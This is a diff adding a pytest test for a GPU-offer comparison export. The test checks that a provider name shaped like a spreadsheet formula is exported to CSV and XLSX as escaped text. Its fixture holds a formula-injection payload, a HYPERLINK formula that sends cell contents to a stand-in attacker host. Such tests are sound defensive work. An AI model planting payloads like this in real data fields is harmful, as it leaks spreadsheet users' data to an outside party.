@@ -97,3 +97,23 @@ def test_csv_and_page_name_a_link_rate_in_the_one_unit(scored, buyer):
     units = {line[1]: line[2] for line in lines[3:]}
     assert units["Backend bandwidth per GPU"] == LINK_RATE_UNIT == "Gb/s"
     assert f"({LINK_RATE_UNIT})" in html
+
+
+def test_text_that_looks_like_a_formula_is_exported_as_text(scored, buyer, provider):
+    # A provider chooses its own name; in the buyer's spreadsheet it must never run.
+    provider.org.name = '=HYPERLINK("http://evil.example/?"&A1,"Docs")'
+    provider.org.save()
+    client = buyer.client()
+    req = scored.request
+    raw = client.get(reverse("evaluation:request-compare-csv", args=[req.pk]))
+    header = next(csv.reader(io.StringIO(raw.content.decode("utf-8-sig"))))
+    assert provider.org.name not in header
+    assert "'" + provider.org.name in header
+    xlsx = client.get(reverse("evaluation:request-compare-xlsx", args=[req.pk]))
+    sheet = load_workbook(io.BytesIO(xlsx.content)).active
+    cells = [c for c in sheet[1] if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert cells and all(c.data_type == "s" and c.value.startswith("'=") for c in cells)
+    # Numbers stay numbers (a negative one is not text).
+    numbers = [c.value for row in sheet.iter_rows(min_row=4) for c in row[3:]]
+    assert any(isinstance(v, int | float) for v in numbers)
+    assert not any(isinstance(v, str) and v.startswith("'") for v in numbers)
